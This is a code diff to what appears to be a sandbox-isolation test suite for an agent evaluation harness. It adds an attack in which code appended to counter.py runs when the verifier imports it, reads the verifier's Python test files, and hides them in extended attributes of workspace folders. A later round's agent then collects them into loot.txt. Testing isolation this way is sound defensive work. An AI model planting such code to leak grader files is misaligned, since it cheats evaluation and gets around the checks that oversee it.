@@ -36,6 +36,9 @@ class Attack:
     """Task ``[environment]`` limits for this attack (small ones keep the suite fast)."""
     env: dict[str, str] = field(default_factory=dict)
     """Engine environment for this attack (e.g. the Docker snapshot mode)."""
+    mode: str = "mt"
+    """The job's mode: ``sr`` starts each round in a new sandbox (which may be given a
+    recycled folder of an earlier verifier's clone)."""
 
 
 def stub() -> dict:
@@ -88,6 +91,45 @@ def _exfil():
 
 
 _exfil()
+"""
+# Imported by the verifier: the suite's files into extended attributes of the workspace
+# folder and a kept sub-folder (see "xattr_handoff").
+_XATTR = """
+import gc as _gc, os as _os
+
+
+def _exfil():
+    root = None
+    for o in _gc.get_objects():
+        try:
+            if type(o).__name__ == "Config" and hasattr(o, "rootpath"):
+                root = str(o.rootpath)
+        except Exception:
+            pass
+    data = b""
+    for d, _, files in _os.walk(root or "/nonexistent"):
+        for f in files:
+            if f.endswith(".py"):
+                data += open(_os.path.join(d, f), "rb").read()
+    for i in range(0, min(len(data), 3000), 1000):
+        for where in (".", "keep"):
+            try:
+                _os.setxattr(where, "user.rt%d" % i, data[i : i + 1000])
+            except OSError:
+                pass
+
+
+_exfil()
+"""
+_XATTR_COLLECT = """
+import os
+out = open("loot.txt", "wb")
+for where in (".", "keep"):
+    try:
+        for n in os.listxattr(where):
+            out.write(os.getxattr(where, n))
+    except OSError:
+        pass
 """
 # Round 2's agent: what round 1's verifier left in the keyrings and in files.
 _COLLECT = """
@@ -493,5 +535,24 @@ ATTACKS: dict[str, Attack] = {
         expect="pass",
         later=[ORACLE, py(_COLLECT)],
         loot="loot.txt",
+    ),
+    # the same through extended attributes of folders, which a recycled workspace (a closed
+    # verifier clone of 16 MB or more, repaired and handed to the next sandbox) keeps: in a
+    # fast-forward job the next round's agent sandbox may be given that folder
+    "xattr_handoff": Attack(
+        [
+            ORACLE,
+            {"run": "head -c 17M /dev/urandom > big.bin; mkdir -p keep; touch keep/.k"},
+            py(_XATTR_COLLECT),
+            {"run": "cat >> counter.py <<'EOF'\n" + _XATTR + "\nEOF"},
+        ],
+        expect="pass",
+        later=[
+            ORACLE,
+            {"run": "head -c 17M /dev/urandom > big.bin; mkdir -p keep; touch keep/.k"},
+            py(_XATTR_COLLECT),
+        ],
+        loot="loot.txt",
+        mode="sr",
     ),
 }
